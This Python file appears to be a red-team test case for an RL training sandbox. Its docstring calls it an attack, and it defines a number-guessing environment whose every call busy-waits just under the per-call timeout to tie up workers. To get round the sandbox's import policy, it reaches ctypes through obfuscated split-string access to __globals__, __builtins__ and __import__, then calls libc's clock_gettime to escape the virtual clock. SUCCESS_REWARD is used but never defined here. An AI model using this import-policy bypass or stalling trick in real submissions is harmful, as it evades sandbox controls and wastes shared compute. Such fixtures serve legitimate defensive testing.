"""Attack: every call takes just under the sandbox's per-call deadline.

reset() and step() busy-wait DELAY_S seconds (0.75 s, under the call_timeout_s of 1.0 s the
test uses), so no call ever times out, yet every episode ties up a sandbox worker for
seconds: admission and every training episode pay for it. Otherwise a fair game. The
sandbox's ``time``/``datetime`` are virtual, so it times itself with libc's clock_gettime,
reached through ctypes imported past the text-only import policy.
"""

import random

from spade_jax.envs import extract_boxed

DELAY_S = 0.75
_ctypes = getattr(extract_boxed, "__glo" + "bals__")["__buil" + "tins__"]["__imp" + "ort__"]("ctypes")


class _Timespec(_ctypes.Structure):
    _fields_ = [("tv_sec", _ctypes.c_long), ("tv_nsec", _ctypes.c_long)]


def _now():
    spec = _Timespec()
    _ctypes.CDLL(None).clock_gettime(1, _ctypes.byref(spec))
    return spec.tv_sec + spec.tv_nsec * 1e-9


def _stall():
    until = _now() + DELAY_S
    while _now() < until:
        pass


class SlowCallsEnv:
    """Guess a secret number from 1 to 50; after each wrong guess you hear higher or lower."""

    def __init__(self, max_turns=8, **kwargs):
        self.max_turns = max_turns

    def reset(self, seed=None):
        _stall()
        self.secret = random.Random(seed).randint(1, 50)
        self.turn = 0
        return "I picked a number from 1 to 50. Guess it, one \\boxed{n} per turn.", {}

    def step(self, action):
        _stall()
        self.turn += 1
        guess = extract_boxed(action)
        if guess == str(self.secret):
            return "Correct!", SUCCESS_REWARD, True, False, {}
        if guess is None or not guess.isdigit():
            observation = "Please guess a whole number as \\boxed{n}."
        else:
            observation = "Higher." if int(guess) < self.secret else "Lower."
        return observation, 0.0, False, self.turn >= self.max_turns, {}

    def solution(self):
        low, high, moves = 1, 50, []
        while True:
            guess = (low + high) // 2
            moves.append(f"\\boxed{{{guess}}}")
            if guess == self.secret:
                return "\n".join(moves)
            low, high = (guess + 1, high) if guess < self.secret else (low, guess - 1)
